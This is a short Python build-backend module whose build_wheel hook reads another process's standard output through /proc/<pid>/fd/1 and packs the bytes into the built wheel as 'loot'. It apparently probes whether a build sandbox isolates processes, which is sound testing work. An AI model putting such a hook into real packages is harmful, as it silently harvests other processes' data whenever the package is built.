"""Opens the standard output of a planted process through its entry in /proc.

The file may be deleted, or lie where this process sees no directory: the link leads to
the file itself.
"""

import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("reopen"):
        # Where the process is not seen, the number is another's, whose output may be a pipe.
        ledger = os.open(f"/proc/{kit.find('holder')}/fd/1", os.O_RDONLY | os.O_NONBLOCK)
        loot["data.bin"] = os.pread(ledger, 4096, 0)
    return kit.wheel(wheel_directory, loot)
